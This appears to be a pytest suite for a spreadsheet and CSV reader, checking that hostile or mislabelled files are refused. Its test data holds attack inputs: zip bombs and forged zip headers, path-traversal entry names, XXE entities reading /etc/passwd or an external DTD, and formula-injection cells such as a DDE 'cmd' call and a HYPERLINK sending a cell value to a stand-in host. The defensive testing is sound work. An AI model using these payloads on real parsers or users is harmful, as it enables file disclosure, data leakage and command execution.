"""Files that mean harm, or are something else than their name says: each is refused with what it is and what to do."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest

from firmware.bench.process import forget_peak, status_kb
from firmware.roster.errors import RosterMissing
from firmware.roster.sheets import archive, xml_stream
from firmware.roster.sheets.cells import Odd, OddKind
from firmware.roster.sheets.errors import SheetError
from firmware.roster.sheets.opening import open_table
from tests.sheets.workbooks import MAIN, PACKAGE, data, inline, parts, read, workbook, zipped

HOUSE = Path(__file__).parents[2]
ONE_ROW = data(f'<row r="1">{inline("A1", "x")}</row>')
# A process of its own that reads a table and says how it went, in how many MB more than before.
READER = """
import json, sys
from pathlib import Path
from firmware.bench.process import status_kb
from firmware.roster.sheets.errors import SheetError
from firmware.roster.sheets.opening import open_table
before = status_kb("VmHWM")
rows = 0
try:
    with open_table(Path(sys.argv[1])) as table:
        for sheet in table.sheets():
            for row in table.rows(sheet.name):
                rows += 1
    found = "read"
except SheetError as error:
    found = str(error)
more = status_kb("VmHWM") - before
print(json.dumps([found, rows, more // 1024]))
"""


def refused(path: Path) -> str:
    with pytest.raises(SheetError) as caught:
        read(path)
    assert str(caught.value).startswith(path.name)
    assert caught.value.allowed
    return str(caught.value)


def apart(path: Path) -> tuple[str, int, int]:
    """(what came of it, rows, MB) of reading in a process of its own, which may run for a minute."""
    done = subprocess.run(
        [sys.executable, "-c", READER, str(path)], cwd=HOUSE, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    return tuple(json.loads(done.stdout))


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    """A zip whose parts are named otherwise, in both places."""
    assert len(old) == len(new)
    assert content.count(old) >= 2
    return content.replace(old, new)


# -- zip bombs --------------------------------------------------------------------------------------------------------


@pytest.mark.attack("roster-01")
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/media/image1.bmp", "xl/sharedStrings.xml"])
def test_a_part_that_grows_a_thousand_times_is_refused_before_it_is_unpacked(tmp_path, part):
    made = parts(ONE_ROW)
    made[part] = b" " * (64 << 20)
    path = zipped(tmp_path / "bomb.xlsx", made)
    assert path.stat().st_size < 100_000
    found, rows, more_mb = apart(path)
    assert "times when it is unpacked" in found
    assert (rows, more_mb < 16) == (0, True)


@pytest.mark.attack("roster-02")
def test_a_part_that_is_longer_than_it_says_is_refused(tmp_path):
    made = parts(data(f'<row r="1">{inline("A1", "x" * 30_000)}</row>'))
    path = zipped(tmp_path / "lie.xlsx", made)
    content = path.read_bytes()
    size = len(made["xl/worksheets/sheet1.xml"])
    for said in (size - 1, size // 2, size + 1):
        path.write_bytes(content.replace(struct.pack("<I", size), struct.pack("<I", said)))
        assert "copy it again" in refused(path)
    path.write_bytes(content.replace(struct.pack("<I", size), struct.pack("<I", archive.PART_BYTES_MAX + 1)))
    assert "bytes" in refused(path)


def test_many_large_parts_together_are_refused(tmp_path):
    """Each within the limit and the ratio; all together more than is ever unpacked."""
    path = tmp_path / "sum.xlsx"
    size = archive.PART_BYTES_MAX
    with zipfile.ZipFile(path, "w") as file:
        for name, content in parts(ONE_ROW).items():
            file.writestr(name, content)
    content = path.read_bytes()
    # The list of parts is what is believed first: two parts of 1 GiB, packed to a hundredth.
    extra = b""
    for name in (b"a", b"b"):
        extra += struct.pack(
            "<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 8, 0, 33, 0, size // 100 + 1, size, 1, 0, 0, 0, 0, 0, 0
        ) + name  # fmt: skip
    end = content.rfind(b"PK\5\6")
    count, directory_bytes = struct.unpack_from("<HI", content, end + 10)
    closing = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, count + 2, count + 2, directory_bytes + len(extra), end - directory_bytes, 0
    )
    path.write_bytes(content[:end] + extra + closing)
    assert "unpacks to more than" in refused(path)


@pytest.mark.attack("roster-03")
def test_parts_that_share_bytes_are_refused(tmp_path):
    """Two entries of the list for one stretch of bytes; and one whose local header lies inside another part."""
    made = parts(ONE_ROW)
    path = zipped(tmp_path / "overlap.xlsx", made, zipfile.ZIP_STORED)
    content = path.read_bytes()
    end = content.rfind(b"PK\5\6")
    count, directory_bytes = struct.unpack_from("<HI", content, end + 10)
    first = content.find(b"PK\1\2")
    entry_bytes = 46 + struct.unpack_from("<H", content, first + 28)[0]
    again = bytearray(content[first : first + entry_bytes])
    again[46:50] = b"zz/w"
    closing = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, count + 1, count + 1, directory_bytes + entry_bytes, end - directory_bytes, 0
    )
    path.write_bytes(content[:end] + bytes(again) + closing)
    assert "overlap" in refused(path)
    quoted = io.BytesIO()
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("a.xml", b"x" * 100)
    with zipfile.ZipFile(quoted, "w", zipfile.ZIP_STORED) as file:
        for name, part in {**made, "quote.bin": inner.getvalue()}.items():
            file.writestr(name, part)
    content = quoted.getvalue()
    at = content.find(b"PK\3\4", content.find(b"quote.bin"))
    end = content.rfind(b"PK\5\6")
    count, directory_bytes = struct.unpack_from("<HI", content, end + 10)
    crc = zlib.crc32(b"x" * 100)
    extra = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 33, crc, 100, 100, 5, 0, 0, 0, 0, 0, at)
    extra += b"a.xml"
    closing = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, count + 1, count + 1, directory_bytes + len(extra), end - directory_bytes, 0
    )
    path.write_bytes(content[:end] + extra + closing)
    assert "overlap" in refused(path)


@pytest.mark.attack("roster-04")
@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "xl/../../x", "xl\\..\\..\\x"])
def test_names_that_lead_out_of_the_file_are_refused_and_nothing_is_written(tmp_path, name):
    inside = tmp_path / "a" / "b"
    inside.mkdir(parents=True)
    path = zipped(inside / "names.xlsx", {**parts(ONE_ROW), name: b"x"})
    assert "names within the file" in refused(path)
    assert [entry.name for entry in tmp_path.rglob("*")] == ["a", "b", "names.xlsx"]


@pytest.mark.attack("roster-05")
@pytest.mark.parametrize("twin", ["xl/worksheets/sheet1.xml", "xl/worksheets/SHEET1.xml", "/xl/worksheets/sheet1.xml"])
def test_a_part_that_is_there_twice_is_refused(tmp_path, twin):
    """One program would show the first, another the second."""
    path = tmp_path / "twice.xlsx"
    placeholder = "#" * len(twin)
    zipped(path, {**parts(ONE_ROW), placeholder: b"other"})
    path.write_bytes(renamed(path.read_bytes(), placeholder.encode(), twin.encode()))
    assert "there twice" in refused(path)


@pytest.mark.attack("roster-06")
def test_a_list_of_a_million_parts_is_refused_unread(tmp_path):
    path = tmp_path / "many.xlsx"
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    count = 1_000_000
    start = zipped(path, parts(ONE_ROW)).read_bytes()
    with path.open("wb") as file:
        file.write(start)
        for _ in range(100):
            file.write(entry * (count // 100))
        here = len(start) + len(entry) * count
        file.write(struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(entry) * count, len(start)))
        file.write(struct.pack("<4sLQL", b"PK\6\7", 0, here, 1))
        file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    found, _, more_mb = apart(path)
    assert "parts" in found
    assert more_mb < 32


# -- hostile XML ------------------------------------------------------------------------------------------------------


@pytest.mark.attack("roster-07")
@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"]
)
@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    ],
)
def test_a_document_type_is_refused_in_every_part(tmp_path, part, declared):
    made = parts(
        data('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings="<si><t>x</t></si>", styles="<cellXfs/>"
    )
    assert read(zipped(tmp_path / "good.xlsx", made))
    made[part] = b'<?xml version="1.0"?>' + declared.encode() + made[part]
    assert "document type" in refused(zipped(tmp_path / "entities.xlsx", made))


@pytest.mark.attack("roster-08")
def test_xml_without_end_is_refused_in_little_memory(tmp_path):
    noise = random.Random(8).randbytes(4 << 20).hex().encode()  # packed to half: no bomb by its ratio
    hexed = [f"e{number:x}".encode() for number in range(100_000)]
    cases = {
        "attribute": b'<row r="1"><c r="' + noise + b'"/></row>',
        "comment": b"<!--" + noise + b"-->",
        "depth": b"".join(b"<%b>" % name for name in hexed) + b"".join(b"</%b>" % name for name in reversed(hexed)),
        "text": b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + noise + b"</t></is></c></row>",
        "formula": b'<row r="1"><c r="A1"><f>' + noise + b"</f></c></row>",
    }
    for name, inside in cases.items():
        made = parts("")
        made["xl/worksheets/sheet1.xml"] = (
            f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + inside + b"</sheetData></worksheet>"
        )
        found, rows, more_mb = apart(zipped(tmp_path / f"{name}.xlsx", made))
        assert found != "read" or name == "comment", name
        assert rows == 0
        assert more_mb < 16, (name, more_mb)
    assert len(noise) > xml_stream.TOKEN_BYTES_MAX


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_a_text_file_cut_anywhere_gives_no_row_that_lacks_a_cell(tmp_path, encoding):
    """Cut at the end of a row nothing shows it; cut within the last cell, that cell is all that is wrong."""
    rows = [
        ["房号", "姓名", "卡号", "车牌"],
        ["101", "安,娜", "0012345678", "沪A12345"],
        ["102", "波", "0012345679", "沪A1"],
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    whole = text.getvalue().encode(encoding)
    path, refused = tmp_path / "cut.csv", 0
    for size in range(len(rows[0][0].encode(encoding)), len(whole)):
        path.write_bytes(whole[:size])
        try:
            with open_table(path) as table:
                read = [row.cells for row in table.rows()]
        except SheetError:
            refused += 1
            continue
        assert [cells[:3] for cells in read[1:]] == [row[:3] for row in rows[1 : len(read)]], size
    assert refused > len(whole) // 3


@pytest.mark.attack("roster-09")
def test_a_file_cut_anywhere_is_refused(tmp_path):
    """Every length of a small workbook, and every kilobyte of a larger one."""
    book = openpyxl.Workbook()
    for row in range(400):
        book.active.append([f"{row}", f"住户{row * 7919}", row])
    book.save(tmp_path / "whole.xlsx")
    small = zipped(tmp_path / "small.xlsx", parts(ONE_ROW)).read_bytes()
    larger = (tmp_path / "whole.xlsx").read_bytes()
    path = tmp_path / "cut.xlsx"
    for whole, step in ((small, 1), (larger, 1_000)):
        for length in range(4, len(whole), step):  # shorter ones are no zip, but text of three letters
            path.write_bytes(whole[:length])
            with pytest.raises(SheetError):
                read(path)
    path.write_bytes(larger[: len(larger) // 2])
    assert "copy it again" in refused(path)


# -- not what its name says -------------------------------------------------------------------------------------------


def ole(*streams: str) -> bytes:
    """The beginning of an OLE file with directory entries of these names (MS-CFB, 2.6.1)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return header + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *streams))


def zip_of(*names: str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name in names:
            file.writestr(name, b"x")
    return content.getvalue()


OTHERS = {
    "xls": (ole("Workbook"), "old .xls workbook"),
    "xls 5": (ole("Book"), "old .xls workbook"),
    "doc": (ole("WordDocument"), "Word document"),
    "ppt": (ole("PowerPoint Document"), "old Office file"),
    "rtf": (rb"{\rtf1\ansi table}", "RTF"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "PDF"),
    "html": (b"\xef\xbb\xbf <HTML><table><tr><td>1</td></tr></table>", "web page"),
    "table": (b"<table border=1><tr><td>1", "web page"),
    "xml 2003": (b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">', "2003"),
    "xml": (b'<?xml version="1.0"?><list/>', "XML"),
    "docx": (zip_of("[Content_Types].xml", "word/document.xml"), "Word document"),
    "pptx": (zip_of("[Content_Types].xml", "ppt/presentation.xml"), "presentation"),
    "xlsb": (zip_of("[Content_Types].xml", "xl/workbook.bin"), ".xlsb"),
    "ods": (zip_of("mimetype", "content.xml"), "OpenDocument"),
    "numbers": (zip_of("Index/Document.iwa"), "Numbers"),
    "zip": (zip_of("a/list.xlsx"), "zip archive with"),
    "jar": (zip_of("META-INF/MANIFEST.MF"), "without a workbook"),
    "empty zip": (zip_of(), "empty"),
    "gzip": (b"\x1f\x8b\x08" + bytes(20), "gzip"),
    "rar": (b"Rar!\x1a\x07\x01\x00", "RAR"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(20), "7z"),
    "png": (b"\x89PNG\r\n\x1a\n", "picture"),
    "jpg": (b"\xff\xd8\xff\xe0", "picture"),
    "sqlite": (b"SQLite format 3\0", "SQLite"),
    "biff": (b"\x09\x08\x10\x00\x00\x06\x05\x00", "old .xls"),
    "program": (b"\x7fELF\x02\x01\x01" + bytes(60), "no text"),
    "utf-16 bare": ("房号,姓名,卡号\r\n".encode("utf-16-le") + b"a\0,\0" * 50, "without its mark"),
    "nothing": (b"", "empty"),
}


@pytest.mark.attack("roster-10")
@pytest.mark.parametrize("name", OTHERS)
@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_what_is_no_table_is_named_whatever_its_name_says(tmp_path, name, ending):
    content, said = OTHERS[name]
    path = tmp_path / f"list{ending}"
    path.write_bytes(content)
    assert said in refused(path)


def test_folders_pipes_devices_and_missing_files_are_said_at_once(tmp_path):
    assert "folder" in refused(tmp_path)
    os.mkfifo(tmp_path / "pipe")
    assert "pipe" in refused(tmp_path / "pipe")  # nobody writes into it: opening must not wait
    assert "device" in refused(Path("/dev/zero"))
    for missing in ("no.xlsx", "no\nsuch\x1b[2J.csv"):
        with pytest.raises(RosterMissing) as caught:
            open_table(tmp_path / missing)
        assert str(caught.value).isprintable()


@pytest.mark.attack("roster-11")
def test_what_a_password_protects_says_so(tmp_path):
    path = tmp_path / "secret.xlsx"
    path.write_bytes(ole("EncryptionInfo", "EncryptedPackage"))
    assert "password" in refused(path)
    zipped(path, parts(ONE_ROW))
    content = bytearray(path.read_bytes())
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            content[at + flags] |= 1
    path.write_bytes(content)
    assert "password" in refused(path)


@pytest.mark.attack("roster-12")
@pytest.mark.parametrize(
    "relation",
    [
        'Target="file:///etc/passwd" TargetMode="External"',
        'Target="http://192.0.2.1/sheet.xml" TargetMode="External"',
        'Target="http://192.0.2.1/sheet.xml"',
        'Target="../../../../etc/passwd"',
        'Target="/etc/passwd"',
        'Target="worksheets/missing.xml"',
        'Target=""',
    ],
)
def test_a_sheet_outside_of_the_file_is_never_opened(tmp_path, relation):
    path = workbook(tmp_path / "outside.xlsx", ONE_ROW, relation=relation)
    assert "outside of this file" in refused(path)


def test_macros_and_links_are_never_opened(tmp_path):
    """A program in the file may be anything, even too large: nobody unpacks it."""
    made = parts(ONE_ROW + '<hyperlinks><hyperlink ref="A1"/></hyperlinks>')
    made["xl/vbaProject.bin"] = b"\0not a program"
    made["xl/externalLinks/externalLink1.xml"] = b"<!DOCTYPE x>"
    path = zipped(tmp_path / "macros.xlsm", made)
    with open_table(path) as table:
        assert table.macros
        assert [row.cells for row in table.rows()] == [["x"]]


# -- much of everything -----------------------------------------------------------------------------------------------


@pytest.mark.attack("roster-13")
def test_a_flood_of_shared_texts_stays_within_its_memory(tmp_path):
    """300,000 different texts of 120 bytes: as Python texts they would take 50 MB, and packed 36 MB."""
    chosen = random.Random(13)
    count = 300_000
    path = tmp_path / "texts.xlsx"
    made = parts(data(f'<row r="1"><c r="A1" t="s"><v>{count - 1}</v></c></row>'), strings="")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for name, content in made.items():
            if name != "xl/sharedStrings.xml":
                file.writestr(name, content)
        with file.open("xl/sharedStrings.xml", "w") as part:
            part.write(f'<sst xmlns="{MAIN}">'.encode())
            for _ in range(0, count, 10_000):
                noise = chosen.randbytes(600_000).hex()
                part.write("".join(f"<si><t>{noise[n : n + 120]}</t></si>" for n in range(0, 1_200_000, 120)).encode())
            part.write(b"</sst>")
    found, rows, more_mb = apart(path)
    assert (found, rows) == ("read", 1)
    assert more_mb < 30


@pytest.mark.attack("roster-14")
@pytest.mark.parametrize(
    ("merges", "said"),
    [
        (["A1:C3", "B2:D4"], "overlap"),
        (["A1:B2", "A1:B2"], "overlap"),
        (["B2:A1"], "no merged range"),
        (["A1:XFE2"], "no merged range"),
        (["A1:A1048577"], "no merged range"),
        (["A:B"], "no merged range"),
        ([""], "no merged range"),
    ],
)
def test_merged_ranges_that_cannot_be_are_refused(tmp_path, merges, said):
    sheet = data("".join(f'<row r="{n}">{inline(f"A{n}", "x")}</row>' for n in range(1, 5)))
    sheet += "<mergeCells>" + "".join(f'<mergeCell ref="{ref}"/>' for ref in merges) + "</mergeCells>"
    assert said in refused(workbook(tmp_path / "merged.xlsx", sheet))


def test_a_range_over_the_whole_sheet_makes_no_rows_and_no_columns_of_its_own(tmp_path):
    sheet = data(f'<row r="1">{inline("A1", "x")}</row><row r="900000">{inline("B900000", "hidden under it")}</row>')
    sheet += '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    rows = read(workbook(tmp_path / "all.xlsx", sheet))
    assert [(row.number, len(row.cells), set(row.cells)) for row in rows] == [(1, 256, {"x"}), (900_000, 256, {"x"})]


def test_rows_without_content_give_none(tmp_path):
    path = tmp_path / "empty.xlsx"
    made = parts("")
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(1, 50_001))
    made["xl/worksheets/sheet1.xml"] = (
        f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows + b"</sheetData></worksheet>"
    )
    found, count, more_mb = apart(zipped(path, made))
    assert (found, count) == ("read", 0)
    assert more_mb < 32


# -- cells ------------------------------------------------------------------------------------------------------------


@pytest.mark.attack("roster-15")
@pytest.mark.parametrize("formula", ["cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/"&amp;A1)', "1+1"])
def test_a_formula_is_told_apart_and_its_result_is_not_taken(tmp_path, formula):
    """The result stands in the file and may be any lie: a card number that nobody sees computed."""
    cells = f'<c r="A1" t="str"><f>{formula}</f><v>0012345678</v></c><c r="B1"><f>{formula}</f><v>12345678</v></c>'
    cells += f'<c r="C1" t="s"><f>{formula}</f><v>0</v></c>'
    rows = read(workbook(tmp_path / "f.xlsx", data(f'<row r="1">{cells}</row>'), strings="<si><t>00123</t></si>"))
    assert rows[0].cells == [Odd(OddKind.FORMULA, "=" + formula.replace("&amp;", "&"))] * 3


@pytest.mark.attack("roster-16")
@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16"])
def test_a_nul_is_named_by_its_row(tmp_path, encoding):
    path = tmp_path / "nul.csv"
    path.write_bytes('房号,姓名\n1,"张\n三"\n2,李\0四\n'.encode(encoding))
    with pytest.raises(SheetError, match="NUL in character 4") as caught:
        read(path)
    assert caught.value.row == 3


@pytest.mark.attack("roster-17")
@pytest.mark.parametrize(
    ("content", "row", "said"),
    [
        ('a,b\n1,"x\n' + "2,y\n" * 200_000, 2, "quote"),
        ('a,b\n1,"x\n2,y\n', 2, "cell ends"),
        ('a,b\n1,"x"y\n', 2, "cell ends"),
        ("a,b\n1,2\n" + "x" * 1_000_000, 3, "longer line"),
        ("a,b\n1,2\n" + "x," * 40_000, 3, "longer line"),
        ('a,b\n1,"' + ("x" * 1_000 + "\n") * 40 + '"\n', 2, "32767 are allowed"),
    ],
)
def test_rows_without_end_are_named(tmp_path, content, row, said):
    path = tmp_path / "quote.csv"
    path.write_text(content)
    with pytest.raises(SheetError, match=said) as caught:
        read(path)
    assert caught.value.row == row


@pytest.mark.attack("roster-19")
def test_flipped_bytes_give_the_same_rows_or_a_clear_refusal(tmp_path):
    """300 workbooks and 100 text files with up to eight bytes changed, seed 19."""
    chosen = random.Random(19)
    book = openpyxl.Workbook()
    for row in range(20):
        book.active.append([f"3-2-{row}", f"住户{row}", row, "=A1", None, row % 2 == 0])
    book.active.merge_cells("A3:A5")
    book.save(tmp_path / "good.xlsx")
    text = tmp_path / "good.csv"
    text.write_bytes("房号,姓名\n1,张三\n2,李四\n".encode("gb18030") * 20)
    stored = zipped(tmp_path / "stored.xlsx", parts(ONE_ROW), zipfile.ZIP_STORED)
    outcomes = {"same": 0, "refused": 0, "other": 0}
    before = forget_peak()
    for source, cases in ((tmp_path / "good.xlsx", 200), (stored, 100), (text, 100)):
        good, whole = read(source), source.read_bytes()
        for _ in range(cases):
            content = bytearray(whole)
            for _ in range(chosen.randint(1, 8)):
                content[chosen.randrange(len(content))] = chosen.randrange(256)
            path = tmp_path / f"flipped{source.suffix}"
            path.write_bytes(content)
            try:
                outcomes["same" if read(path) == good else "other"] += 1
            except SheetError:
                outcomes["refused"] += 1
    # A text file has no checksum, and a zip's list of parts and its small parts have none that covers all.
    assert outcomes["refused"] > 150
    assert outcomes["same"] > 20
    assert status_kb("VmHWM") - before < 500_000


def test_the_list_of_relations_of_another_package_is_not_believed(tmp_path):
    made = parts(ONE_ROW)
    made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(PACKAGE.encode(), b"urn:other")
    assert "outside of this file" in refused(zipped(tmp_path / "r.xlsx", made))
